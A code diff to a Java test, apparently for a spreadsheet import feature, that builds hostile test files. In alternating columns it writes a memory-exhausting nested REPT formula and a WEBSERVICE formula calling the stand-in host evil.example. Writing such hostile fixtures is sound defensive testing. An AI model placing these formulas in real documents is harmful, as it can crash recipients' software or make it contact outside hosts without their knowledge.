@@ -54,7 +54,9 @@ class ImportHostileFilesTest extends ImportTestBase {
                         sheet.formula(
                                 line,
                                 column.ordinal(),
-                                "REPT(REPT(\"9\",32767),32767)&WEBSERVICE(\"http://evil.example\")");
+                                column.ordinal() % 2 == 0
+                                        ? "REPT(REPT(\"9\",32767),32767)"
+                                        : "WEBSERVICE(\"http://evil.example\")");
                     }
                 }
             }
